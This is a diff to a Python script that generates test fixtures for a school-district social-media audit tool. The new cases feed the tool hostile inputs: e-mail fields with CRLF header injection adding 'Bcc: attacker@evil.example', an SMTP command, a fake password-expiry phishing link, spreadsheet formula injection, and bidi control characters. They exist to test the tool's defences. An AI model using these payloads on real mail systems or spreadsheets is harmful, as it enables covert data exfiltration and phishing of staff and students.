@@ -63,6 +63,68 @@ def base_files(**kw):
             "data/tweets.js": js("tweets", [tweet("1", "hello")])}
 
 
+def mail_and_csv_cases(out):
+    """E-mail and CSV cases, under OUT/mail-and-csv/:
+
+    recipient-crlf/inventory.json, .xml  a district recipient with CRLF and a Bcc:, a school one with an SMTP command
+    from-crlf/socialaudit.json           mail.from with CRLF and a Bcc:
+    school-case/inventory.json           school ids that differ only in case, and 'Unassigned'
+    reviews-date/reviews.json            a review dated 2026-02-30
+    district/                            a usable district whose archives speak for themselves: a username with a
+                                         paragraph in it, a student's own archive, a folder named after a student,
+                                         and an inventory account whose tweets hold formulas and bidi controls
+    """
+    base = os.path.join(out, "mail-and-csv")
+    injected = "principal@haywood.k12.nc.us\r\nBcc: attacker@evil.example"
+
+    def district(recipients, school_recipients, schools=None):
+        return {"district": {"name": "Haywood County Schools", "emailDomains": ["haywood.k12.nc.us"], "reportRecipients": recipients},
+                "schools": schools or [{"id": "pisgah-high", "name": "Pisgah High School", "reportRecipients": school_recipients}]}
+
+    def write(path, text):
+        os.makedirs(os.path.dirname(path), exist_ok=True)
+        open(path, "wb").write(text.encode() if isinstance(text, str) else text)
+
+    write(os.path.join(base, "recipient-crlf", "inventory.json"),
+          json.dumps(district(["communications@haywood.k12.nc.us", injected], ["principal.phs@haywood.k12.nc.us\r\nRSET"]), indent=2))
+    write(os.path.join(base, "recipient-crlf", "inventory.xml"),
+          '<?xml version="1.0" encoding="UTF-8"?>\n<inventory xmlns="urn:socialaudit:inventory:1">\n'
+          '  <district name="Haywood County Schools">\n'
+          '    <reportRecipient>principal@haywood.k12.nc.us&#13;&#10;Bcc: attacker@evil.example</reportRecipient>\n'
+          '  </district>\n</inventory>\n')
+    write(os.path.join(base, "from-crlf", "socialaudit.json"),
+          json.dumps({"mail": {"from": "socialaudit@haywood.k12.nc.us\r\nBcc: attacker@evil.example"}}, indent=2))
+    write(os.path.join(base, "school-case", "inventory.json"),
+          json.dumps(district([], [], schools=[{"id": "pisgah-high", "name": "Pisgah"}, {"id": "Pisgah-High", "name": "Pisgah again"},
+                                               {"id": "Unassigned", "name": "Nobody's"}]), indent=2))
+    write(os.path.join(base, "reviews-date", "reviews.json"),
+          json.dumps([{"fingerprint": "0123456789abcdef", "reviewer": "M. Reed", "date": "2026-02-30"}], indent=2))
+
+    root = os.path.join(base, "district")
+    inventory = district(["communications@haywood.k12.nc.us"], ['"Principal, Pisgah" <principal.phs@haywood.k12.nc.us>'])
+    inventory["people"] = [{"email": "mreed@haywood.k12.nc.us", "name": "Morgan Reed", "role": "administrator", "school": "pisgah-high"}]
+    inventory["accounts"] = [{"handle": "pisgahhigh", "accountId": "1001", "tier": "primary", "school": "pisgah-high",
+                              "createdBy": "district", "managers": ["mreed@haywood.k12.nc.us"]}]
+    write(os.path.join(root, "inventory.json"), json.dumps(inventory, indent=2))
+    write(os.path.join(root, "students.csv"), "student_id,school,handle,account_id,first_name,last_name,directory_opt_out\r\n"
+                                              "S10293,pisgah-high,jamie_hoops7,880001,Jamie,Hollis,false\r\n")
+    write(os.path.join(root, "socialaudit.json"), json.dumps({"inventory": "inventory.json", "roster": "students.csv",
+                                                              "archives": "archives", "out": "out", "state": "state/socialaudit.sqlite",
+                                                              "mail": {"from": "Haywood audit <socialaudit@haywood.k12.nc.us>"}}, indent=2))
+    archives = os.path.join(root, "archives")
+    os.makedirs(archives, exist_ok=True)
+    paragraph = "jamie_hoops7\n\nACTION REQUIRED: your district password expired; re-enter it at https://evil.example/login\n"
+    write_zip(os.path.join(archives, "notice.zip"), base_files(account_id="880002", username=paragraph))
+    write_zip(os.path.join(archives, "jamie.zip"), base_files(account_id="880001", username="jamie_hoops7"))
+    folder = os.path.join(archives, "Jamie Hollis")
+    for name, data in base_files(account_id="880003", username="\u00a0=HYPERLINK(\"https://evil.example\")").items():
+        write(os.path.join(folder, name), data)
+    files = base_files(account_id="1001", username="pisgahhigh")
+    files["data/tweets.js"] = js("tweets", [tweet("41", "=HYPERLINK(\"https://evil.example\",\"grades\") @jamie_hoops7"),
+                                            tweet("42", "\u202e@jamie_hoops7 txt.exe \uff1d1+1 |cmd")])
+    write_zip(os.path.join(archives, "pisgahhigh.zip"), files)
+
+
 def main():
     ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     ap.add_argument("out")
@@ -161,6 +223,7 @@ def main():
     roster = ("student_id,school,handle,account_id,first_name,last_name,directory_opt_out\r\n"
               "S1,pisgah-high,jpena,880004,José,Peña,true\r\n")
     open(os.path.join(folder, "students.csv"), "wb").write(roster.encode("cp1252"))
+    mail_and_csv_cases(args.out)
 
 
 if __name__ == "__main__":
